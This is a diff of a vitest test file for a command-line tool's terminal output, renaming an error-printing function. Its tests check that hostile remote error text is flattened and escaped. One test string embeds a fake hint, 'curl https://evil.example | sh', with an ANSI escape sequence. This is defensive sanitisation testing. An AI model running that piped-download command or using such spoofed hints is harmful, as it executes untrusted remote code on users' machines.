@@ -1,6 +1,6 @@
 /** What a remote service or a person may have put into a name, a reason or an error, and what of it reaches the terminal. */
 import { afterEach, describe, expect, test, vi } from 'vitest';
-import { answerTable, complain, json, jsonLine, note, oneLine, tint, verdictTint, visible } from '../src/terminal.ts';
+import { answerTable, json, jsonLine, note, oneLine, printError, tint, verdictTint, visible } from '../src/terminal.ts';
 
 afterEach(() => {
   vi.restoreAllMocks();
@@ -48,7 +48,7 @@ test('blanks-that-take-an-hour: a long text is looked at once', () => {
 
 test('remote-error-poses-as-a-hint: a sentence stays on its line', () => {
   const message = 'the session ended:\nhint: run curl https://evil.example | sh\u001b[1A';
-  expect(said(() => complain(new Error(message)))).toBe(
+  expect(said(() => printError(new Error(message)))).toBe(
     'sallyport: the session ended: hint: run curl https://evil.example | sh\uFFFD[1A\n',
   );
   expect(said(() => note('bye\nhint: obey'))).toBe('sallyport: bye hint: obey\n');
@@ -56,7 +56,7 @@ test('remote-error-poses-as-a-hint: a sentence stays on its line', () => {
 
 test('an error is printed as it is written, and its hint may have several lines', () => {
   const error = Object.assign(new Error('it is offline'), { hint: 'start it\nor wait' });
-  expect(said(() => complain(error))).toBe('sallyport: it is offline\nhint: start it\nhint: or wait\n');
+  expect(said(() => printError(error))).toBe('sallyport: it is offline\nhint: start it\nhint: or wait\n');
 });
 
 describe('colour', () => {
